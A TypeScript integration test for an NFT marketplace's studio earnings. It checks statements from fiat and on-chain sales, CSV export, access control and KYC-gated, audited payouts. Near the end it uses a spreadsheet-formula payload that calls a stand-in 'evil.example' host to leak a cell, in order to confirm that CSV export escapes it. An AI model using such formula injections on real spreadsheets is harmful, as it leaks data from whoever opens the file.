import { ANVIL_ADDRESSES, ANVIL_PRIVATE_KEYS } from "@diginoor/contracts/anvil-accounts";
import { diginoorCollectibleAbi } from "@diginoor/contracts/generated/diginoorCollectible";
import { diginoorMarketplaceAbi } from "@diginoor/contracts/generated/diginoorMarketplace";
import type { EarningCurrency, EarningsStatement } from "@diginoor/api/earnings";
import type { NftAuction, Order } from "@diginoor/api/orders";
import { privateKeyToAccount } from "viem/accounts";
import { parse as parseCsv } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sandboxSecret } from "../src/modules/orders/service.ts";
import { signSandboxPayload } from "../src/modules/orders/sandbox.ts";
import { fanWithWallet, sandboxEvent } from "./card-orders.ts";
import { type CommerceApp, startCommerceApp, until } from "./commerce-helpers.ts";
import { newSignedInUser } from "./factories.ts";
import { cashfreeEnv, cashfreeWebhook, createFakeCashfree } from "./fake-cashfree.ts";
import { startFakeProvider } from "./fake-provider.ts";
import { createFakeStripe, stripeEnv, stripeWebhook } from "./fake-stripe.ts";
import { sandboxKyc } from "./kyc-helpers.ts";

/**
 * Studio earnings (issue 25 point 4, decision 174) on a real anvil, over two production houses: primary
 * sales through every fiat provider — the sandbox card (rupees), Stripe (dollars) and Cashfree (rupees),
 * each against its local fake speaking the provider's wire format, paid by its signed webhook and minted
 * — in two calendar months, a wallet primary sale, a resale paying a royalty and a settled primary
 * auction. Each house's statement — every line, the months and the totals, currency by currency —
 * equals what is computed here independently: the fiat sales from the orders table (and the amounts
 * the providers were asked to charge), the chain's from the marketplace's own event logs read with
 * viem. A payout needs a studio account with verified KYC, at most the balance, and is audited.
 */
const PAYOUT_1 = ANVIL_ADDRESSES[9];
const PAYOUT_2 = ANVIL_ADDRESSES[8];
const FIAT = ["sandbox", "stripe", "cashfree"] as const;
type FiatProvider = (typeof FIAT)[number];

let c: CommerceApp;
let t: CommerceApp["t"];
let clock: CommerceApp["clock"];
let api: CommerceApp["api"];
let fake: Awaited<ReturnType<typeof startFakeProvider>>;
const stripe = createFakeStripe(() => Math.floor(clock.now() / 1000));
const cashfree = createFakeCashfree(() => clock.now());
const q = <T = Record<string, unknown>>(sql: string, params?: unknown[]) =>
  t.ctx.database.query<T & Record<string, unknown>>(sql, params);
const NFT_COLUMNS = `id, title, tier, category, film_id, celebrity_id, production_house_id, image_url, thumbnail_url,
  edition_size, editions_available, sale_type, price_usd_cents, auction_duration_days`;

beforeAll(async () => {
  // One local server answers as Stripe (/v1/…) and as Cashfree (/pg/…); the sandbox is the app's own.
  fake = await startFakeProvider((r) => (r.path.startsWith("/pg/") ? cashfree.answer(r) : stripe.answer(r)));
  c = await startCommerceApp(PAYOUT_1, {
    ...stripeEnv(fake.url, "usd"),
    ...cashfreeEnv(fake.url),
    PAYMENT_PROVIDER_TIMEOUT_MS: "800",
  });
  ({ t, clock, api } = c);
  await q(
    "INSERT INTO production_houses (slug, name, logo_url, payout_address) VALUES ('lyca', 'Lyca Productions', '/l.svg', $1)",
    [PAYOUT_2],
  );
  await q(`INSERT INTO films (slug, name, poster_url, banner_url, thumbnail_url, production_house_id)
    VALUES ('enthiran', 'Enthiran', '/p.svg', '/b.svg', '/t.svg', 2)`);
  await q(`INSERT INTO nfts (${NFT_COLUMNS}) VALUES
    ('cardOne', 'Card One', 'rare', 'Scene', 1, 1, 1, '/i.svg', '/t.svg', 9, 9, 'fixed', 2500, NULL),
    ('cardTwo', 'Card Two', 'common', 'Scene', 2, 1, 2, '/i.svg', '/t.svg', 9, 9, 'fixed', 1099, NULL),
    ('walletOne', 'Wallet One', 'rare', 'Scene', 1, 1, 1, '/i.svg', '/t.svg', 3, 3, 'fixed', 2500, NULL)`);
}, 120_000);

afterAll(async () => {
  await t?.close();
  await fake?.close();
});

let phones = 0;

/** The provider's signed webhook saying order `o` is paid, delivered to the app as the provider sends it. */
async function paid(provider: FiatProvider, o: Order) {
  const nowSec = Math.floor(clock.now() / 1000);
  if (provider === "stripe") {
    const body = stripe.event(o, "checkout.session.completed");
    return stripeWebhook(t.app, body, stripe.sign(body));
  }
  if (provider === "cashfree") {
    const body = cashfree.event(o, "PAYMENT_SUCCESS_WEBHOOK");
    return cashfreeWebhook(t.app, body, cashfree.signed(body));
  }
  const body = sandboxEvent(o, "payment.succeeded", nowSec);
  return t.app.inject({
    method: "POST",
    url: "/api/v1/webhooks/sandbox",
    payload: body,
    headers: {
      "content-type": "application/json",
      "x-sandbox-signature": signSandboxPayload(sandboxSecret(t.ctx.config), body, nowSec),
    },
  });
}

/** A primary order of `nftId` through `provider` by a new fan with a wallet, paid by its webhook, then minted. */
async function fiatSale(nftId: string, provider: FiatProvider): Promise<Order> {
  const fan = await fanWithWallet(t);
  const made = await api<Order>("POST", "/api/v1/orders", fan.cookie, {
    nftId,
    provider,
    ...(provider === "cashfree" ? { phone: `98765${String(++phones).padStart(5, "0")}` } : {}),
  });
  expect(made.status, JSON.stringify(made.body)).toBe(201);
  expect(made.body.provider).toBe(provider);
  const res = await paid(provider, made.body);
  expect(res.statusCode, res.body).toBe(200);
  return until(
    `${provider} order fulfilled`,
    async () => (await api<Order>("GET", `/api/v1/orders/${made.body.orderId}`, fan.cookie)).body,
    (o) => o.state === "fulfilled",
    30_000,
  );
}

/** YYYY-MM in India (UTC+5:30) of a block's time in seconds. */
const indianMonth = (sec: bigint) => new Date(Number(sec) * 1000 + 330 * 60_000).toISOString().slice(0, 7);

type Line = Pick<
  EarningsStatement["lines"][number],
  | "kind"
  | "currency"
  | "grossMinor"
  | "platformFeeMinor"
  | "amountMinor"
  | "owed"
  | "month"
  | "reference"
  | "nftId"
>;
const key = (l: Line) => `${l.kind} ${l.reference} ${l.currency}`;
const comparable = (lines: Line[]) =>
  lines
    .map(({ kind, currency, grossMinor, platformFeeMinor, amountMinor, owed, month, reference, nftId }) => ({
      kind,
      currency,
      grossMinor,
      platformFeeMinor,
      amountMinor,
      owed,
      month,
      reference,
      nftId,
    }))
    .sort((a, b) => key(a).localeCompare(key(b)));

/** Totals and months of `lines`, summed here: what the statement must say. */
function summed(lines: Line[]) {
  const zero = () => ({ inr: 0n, usd: 0n, wei: 0n }) as Record<EarningCurrency, bigint>;
  const earned = zero();
  const owed = zero();
  const months = new Map<string, { earned: typeof earned; owed: typeof owed }>();
  for (const l of lines) {
    const m = months.get(l.month) ?? { earned: zero(), owed: zero() };
    months.set(l.month, m);
    const a = BigInt(l.amountMinor);
    earned[l.currency] += a;
    m.earned[l.currency] += a;
    if (l.owed) {
      owed[l.currency] += a;
      m.owed[l.currency] += a;
    }
  }
  const text = (v: typeof earned) => ({ inr: String(v.inr), usd: String(v.usd), wei: String(v.wei) });
  return {
    earned: text(earned),
    owed: text(owed),
    months: [...months.entries()]
      .sort(([a], [b]) => b.localeCompare(a))
      .map(([month, v]) => ({ month, earned: text(v.earned), owed: text(v.owed) })),
  };
}

describe("studio earnings", () => {
  it("each studio's statement — lines, months, totals — equals the orders table's and the chain's own", async () => {
    // Fiat primary sales by every provider, of both houses: US$25.00 (house 1) and US$10.99 (house 2).
    const sales: Order[] = [];
    for (const [nftId, provider] of [
      ["cardOne", "sandbox"],
      ["cardOne", "sandbox"],
      ["cardOne", "stripe"],
      ["cardOne", "cashfree"],
      ["cardTwo", "sandbox"],
      ["cardTwo", "stripe"],
      ["cardTwo", "cashfree"],
    ] as const)
      sales.push(await fiatSale(nftId, provider));
    expect(sales.map((o) => o.payCurrency)).toEqual(["inr", "inr", "usd", "inr", "inr", "usd", "inr"]);
    // Stripe charges this account in dollars: the catalogue price in cents.
    expect([sales[2]!.payAmountMinor, sales[5]!.payAmountMinor].map(Number)).toEqual([2500, 1099]);

    // A wallet primary sale of house 1 (voucher, the buyer's own transaction).
    const alice = await c.buyer(ANVIL_PRIVATE_KEYS[1]);
    const bob = await c.buyer(ANVIL_PRIVATE_KEYS[2]);
    const o = (await c.order(alice.cookie, "walletOne")).body;
    await c.pc().waitForTransactionReceipt({ hash: await c.pay(alice.wallet, o) });
    const walletToken = BigInt(o.payment!.voucher.orderId);
    await until(
      "wallet order fulfilled",
      async () => (await api<Order>("GET", `/api/v1/orders/${o.orderId}`, alice.cookie)).body,
      (x) => x.state === "fulfilled",
      30_000,
    );

    // A resale: alice lists, bob buys; the studio's royalty is paid on chain.
    await c.pc().waitForTransactionReceipt({
      hash: await alice.wallet.writeContract({
        chain: null,
        address: c.collectible,
        abi: diginoorCollectibleAbi,
        functionName: "setApprovalForAll",
        args: [c.marketplace, true],
      }),
    });
    await c.pc().waitForTransactionReceipt({
      hash: await alice.wallet.writeContract({
        chain: null,
        address: c.marketplace,
        abi: diginoorMarketplaceAbi,
        functionName: "list",
        args: [walletToken, 2n * 10n ** 16n],
      }),
    });
    await c.pc().waitForTransactionReceipt({
      hash: await bob.wallet.writeContract({
        chain: null,
        address: c.marketplace,
        abi: diginoorMarketplaceAbi,
        functionName: "buy",
        args: [walletToken, 2n * 10n ** 16n],
        value: 2n * 10n ** 16n,
      }),
    });

    // A primary auction of house 1, opened by the minter key, won by bob and settled by an outsider.
    const auctionToken = await c.openAuction("auctionOne", "Auction One");
    await c.pc().waitForTransactionReceipt({
      hash: await bob.wallet.writeContract({
        chain: null,
        address: c.marketplace,
        abi: diginoorMarketplaceAbi,
        functionName: "bid",
        args: [auctionToken],
        value: 12n * 10n ** 16n,
      }),
    });
    await c.pc().request({ method: "evm_increaseTime" as never, params: [86_400 + 60] as never });
    await c.pc().request({ method: "evm_mine" as never, params: [] as never });
    clock.advance((86_400 + 60) * 1000);
    const outsider = c.walletOf(privateKeyToAccount(ANVIL_PRIVATE_KEYS[3]));
    await c.pc().waitForTransactionReceipt({
      hash: await outsider.writeContract({
        chain: null,
        address: c.marketplace,
        abi: diginoorMarketplaceAbi,
        functionName: "settle",
        args: [auctionToken],
      }),
    });
    await until(
      "settlement indexed",
      async () => (await api<NftAuction>("GET", "/api/v1/nfts/auctionOne/auction")).body,
      (b) => b.status === "settled",
      30_000,
    );
    await until(
      "every sale indexed",
      () => q<{ n: number }>("SELECT count(*)::int AS n FROM indexer_sales"),
      (r) => r[0]!.n === 3,
      30_000,
    );

    // The next month (32 days on): one more sale by each provider.
    clock.advance(32 * 86_400_000);
    for (const [nftId, provider] of [
      ["cardOne", "stripe"],
      ["cardOne", "sandbox"],
      ["cardTwo", "cashfree"],
    ] as const)
      sales.push(await fiatSale(nftId, provider));

    // What the providers were asked to charge is what the orders record.
    for (const s of sales.filter((x) => x.provider === "stripe")) {
      const session = stripe.sessionOf(s)!;
      expect([session.amount_total, session.currency]).toEqual([Number(s.payAmountMinor), "usd"]);
    }
    for (const s of sales.filter((x) => x.provider === "cashfree")) {
      const order = cashfree.orders.get(s.orderId)!;
      expect([Math.round(Number(order.order_amount) * 100), order.order_currency]).toEqual([
        Number(s.payAmountMinor),
        "INR",
      ]);
    }

    // Independently, fiat: the orders table itself (fulfilled primary orders, the month of fulfilment in India).
    const fiatRows = await q<{
      id: string;
      nft_id: string;
      house: number;
      provider: string;
      currency: string;
      amount: string;
      month: string;
    }>(
      `SELECT o.id, o.nft_id, n.production_house_id AS house, o.provider, o.pay_currency AS currency,
              o.pay_amount_minor::text AS amount,
              to_char(max(tr.at) AT TIME ZONE 'UTC' + interval '5 hours 30 minutes', 'YYYY-MM') AS month
         FROM orders o JOIN nfts n ON n.id = o.nft_id
         JOIN order_transitions tr ON tr.order_id = o.id AND tr.to_state = 'fulfilled'
        WHERE o.state = 'fulfilled' AND o.provider IN ('sandbox', 'stripe', 'cashfree')
        GROUP BY o.id, o.nft_id, n.production_house_id, o.provider, o.pay_currency, o.pay_amount_minor`,
    );
    expect(fiatRows).toHaveLength(sales.length);
    for (const house of [1, 2])
      for (const p of FIAT)
        expect(
          fiatRows.some((r) => r.house === house && r.provider === p),
          `house ${house} ${p}`,
        ).toBe(true);
    expect(new Set(fiatRows.map((r) => r.month)).size).toBe(2);
    const expected = new Map<number, Line[]>([
      [1, []],
      [2, []],
    ]);
    for (const r of fiatRows)
      expected.get(r.house)!.push({
        kind: "primary_fiat",
        currency: r.currency as EarningCurrency,
        grossMinor: r.amount,
        // Nothing charges a commission on a fiat sale (decision 174): gross = net.
        platformFeeMinor: "0",
        amountMinor: r.amount,
        owed: true,
        month: r.month,
        reference: r.id,
        nftId: r.nft_id,
      });

    // Independently, chain: the marketplace's own logs, read with viem (no indexer involved), each
    // attributed by the studio's payout address the contract paid the royalty to.
    const logs = await c.pc().getContractEvents({
      address: c.marketplace,
      abi: diginoorMarketplaceAbi,
      fromBlock: 0n,
    });
    const houseOf = (receiver: unknown) => (receiver === PAYOUT_1 ? 1 : receiver === PAYOUT_2 ? 2 : 0);
    const minter = t.ctx.chain!.minter!.address;
    let chainLines = 0;
    for (const log of logs) {
      const a = log.args as Record<string, unknown>;
      const month = indianMonth((await c.pc().getBlock({ blockNumber: log.blockNumber })).timestamp);
      const line = { currency: "wei" as const, month, reference: log.transactionHash };
      if (log.eventName === "PrimaryPurchase") {
        // The one voucher sale, of house 1's walletOne: the studio is credited price − platform fee.
        expect(a.tokenId).toBe(walletToken);
        expect(a.platformFee as bigint).toBeGreaterThan(0n);
        expected.get(1)!.push({
          ...line,
          kind: "primary_wallet",
          grossMinor: String(a.price),
          platformFeeMinor: String(a.platformFee),
          amountMinor: String((a.price as bigint) - (a.platformFee as bigint)),
          owed: false,
          nftId: "walletOne",
        });
        chainLines++;
      }
      if (log.eventName === "Sale") {
        expect(houseOf(a.royaltyReceiver)).toBe(1);
        expect(a.royaltyAmount as bigint).toBeGreaterThan(0n);
        expected.get(1)!.push({
          ...line,
          kind: "resale_royalty",
          grossMinor: String(a.price),
          platformFeeMinor: "0",
          amountMinor: String(a.royaltyAmount),
          owed: false,
          nftId: "walletOne",
        });
        chainLines++;
      }
      if (log.eventName === "AuctionSettled") {
        expect(houseOf(a.royaltyReceiver)).toBe(1);
        expect(a.seller).toBe(minter);
        expect(a.sellerProceeds as bigint).toBeGreaterThan(0n);
        const gross = { ...line, grossMinor: String(a.amount), nftId: "auctionOne" };
        // The seller share is net of the platform fee (and of the royalty, a line of its own).
        expected.get(1)!.push(
          {
            ...gross,
            kind: "auction_seller_share",
            platformFeeMinor: String(a.platformFee),
            amountMinor: String(a.sellerProceeds),
            owed: true,
          },
          {
            ...gross,
            kind: "auction_royalty",
            platformFeeMinor: "0",
            amountMinor: String(a.royaltyAmount),
            owed: false,
          },
        );
        chainLines += 2;
      }
    }
    expect(chainLines).toBe(4);

    const admin = await newSignedInUser(t.ctx, { role: "admin" });
    const statementOf = async (house: number) =>
      (await api<EarningsStatement>("GET", `/api/v1/admin/studios/${house}/earnings`, admin.cookie)).body;
    const one = await statementOf(1);
    for (const house of [1, 2]) {
      const s = house === 1 ? one : await statementOf(house);
      const want = expected.get(house)!;
      // Every line, one for one; then the months and the totals, currency by currency.
      expect(comparable(s.lines)).toEqual(comparable(want));
      // A primary line shows gross, platform share and net, and they add up.
      for (const l of s.lines.filter((x) => x.kind === "primary_fiat" || x.kind === "primary_wallet"))
        expect(BigInt(l.grossMinor) - BigInt(l.platformFeeMinor)).toBe(BigInt(l.amountMinor));
      const sums = summed(want);
      expect(s.totals.earned).toEqual(sums.earned);
      expect(s.totals.owed).toEqual(sums.owed);
      expect(s.months.map(({ month, earned, owed }) => ({ month, earned, owed }))).toEqual(sums.months);
    }
    // The figures themselves, so that a wrong sum on both sides cannot pass: house 1 took rupees, dollars
    // and wei; house 2 rupees and dollars only, never wei.
    const sumOf = (house: number, currency: string) =>
      fiatRows
        .filter((r) => r.house === house && r.currency === currency)
        .reduce((s, r) => s + BigInt(r.amount), 0n);
    expect(one.totals.earned.usd).toBe("5000");
    expect(sumOf(1, "usd")).toBe(5000n);
    expect((await statementOf(2)).totals.earned).toEqual({
      inr: sumOf(2, "inr").toString(),
      usd: "1099",
      wei: "0",
    });
    expect(
      sales
        .filter((s) => s.nftId === "cardOne" && s.payCurrency === "inr")
        .reduce((x, s) => x + BigInt(s.payAmountMinor!), 0n),
    ).toBe(sumOf(1, "inr"));
    expect(BigInt(one.totals.earned.wei)).toBeGreaterThan(0n);

    const csv = await t.app.inject({
      method: "GET",
      url: "/api/v1/admin/studios/1/earnings.csv",
      headers: { cookie: admin.cookie },
    });
    expect(csv.headers["content-type"]).toMatch(/^text\/csv/);
    const rows = csv.body.trim().split("\n");
    expect(rows).toHaveLength(1 + one.lines.length);
    for (const currency of ["inr", "usd"] as const)
      expect(
        rows
          .slice(1)
          .reduce((s, r) => s + (r.split(",")[3] === currency ? BigInt(r.split(",")[6]!) : 0n), 0n),
      ).toBe(sumOf(1, currency));

    // A studio account sees its own house only; a fan nothing.
    const studio = await newSignedInUser(t.ctx, { role: "studio", productionHouseId: 1 });
    expect((await api("GET", "/api/v1/admin/studios/1/earnings", studio.cookie)).status).toBe(200);
    expect((await api("GET", "/api/v1/admin/studios/2/earnings", studio.cookie)).status).toBe(403);
    const fan = await newSignedInUser(t.ctx);
    expect((await api("GET", "/api/v1/admin/studios/1/earnings", fan.cookie)).status).toBe(403);

    // Payouts: KYC of a studio account first, at most the balance, audited; studio accounts cannot record them.
    const url = "/api/v1/admin/studios/1/payouts";
    const payout = { currency: "inr", amountMinor: "100000", reference: "NEFT UTR 7001" };
    const refused = await api<{ error: { code: string; message: string } }>(
      "POST",
      url,
      admin.cookie,
      payout,
    );
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe("kyc_required");
    expect(refused.body.error.message).toMatch(/no studio account with verified identity/);
    expect((await api("POST", url, studio.cookie, payout)).status).toBe(403);
    await sandboxKyc(t, studio.user.id, "approve");
    const over = { ...payout, amountMinor: (sumOf(1, "inr") + 1n).toString() };
    expect((await api("POST", url, admin.cookie, over)).status).toBe(409);
    const done = await api<{ amountMinor: string }>("POST", url, admin.cookie, payout);
    expect(done.status, JSON.stringify(done.body)).toBe(201);
    const after = await statementOf(1);
    expect(after.totals.paidOut.inr).toBe("100000");
    expect(after.totals.balance.inr).toBe((sumOf(1, "inr") - 100000n).toString());
    expect(after.totals.earned).toEqual(one.totals.earned);
    const audit = await q(
      "SELECT 1 FROM admin_audit_log WHERE action = 'studio.payout' AND subject_id = '1'",
    );
    expect(audit).toHaveLength(1);

    // Issue 37 point 7: a payout reference that is a spreadsheet formula is exported as text.
    const hostile = '=HYPERLINK("http://evil.example/?leak="&B2,"Payout receipt")';
    const second = await api("POST", url, admin.cookie, { ...payout, amountMinor: "1", reference: hostile });
    expect(second.status).toBe(201);
    const exported = await t.app.inject({
      method: "GET",
      url: "/api/v1/admin/studios/1/earnings.csv",
      headers: { cookie: admin.cookie },
    });
    const records = parseCsv(exported.body, { columns: true }) as Record<string, string>[];
    const payouts = records.filter((r) => r.kind === "payout");
    // The two payouts may carry the same instant (the test's clock), so their order is not what is checked.
    const byAmount = (a: string[], b: string[]) => Number(BigInt(a[1] ?? 0) - BigInt(b[1] ?? 0));
    expect(payouts.map((r) => [r.reference ?? "", r.amount_minor ?? ""]).sort(byAmount)).toEqual([
      [`'${hostile}`, "1"],
      ["NEFT UTR 7001", "100000"],
    ]);
    // Every other cell is as the statement has it: the amounts are numbers, nothing neutralised.
    const lines = records.filter((r) => r.kind !== "payout");
    expect(lines).toHaveLength(one.lines.length);
    expect(lines.map((r) => r.amount_minor)).toEqual(one.lines.map((l) => l.amountMinor));
    expect(lines.map((r) => r.reference)).toEqual(one.lines.map((l) => l.reference));
    for (const r of records) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  }, 240_000);
});
